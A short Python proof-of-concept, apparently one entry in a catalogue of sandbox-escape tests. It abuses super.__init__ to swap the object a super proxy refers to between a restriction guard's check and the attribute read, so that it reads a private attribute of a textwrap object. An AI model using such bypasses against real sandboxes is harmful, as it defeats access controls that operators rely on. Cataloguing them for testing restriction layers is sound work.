# technique: super.__init__ makes a super object stand for another one between the guard's look and the read
# source: reading pyrestrict and GraalPy's library
# goal: read a private attribute of a library's object
# impact: introspect
import textwrap
q = textwrap.TextWrapper()
class O: pass
o = O()
s = super(textwrap.TextWrapper, q)
p = s.__getattribute__
super.__init__(s, O, o)
escaped(p('_wrap_chunks'))
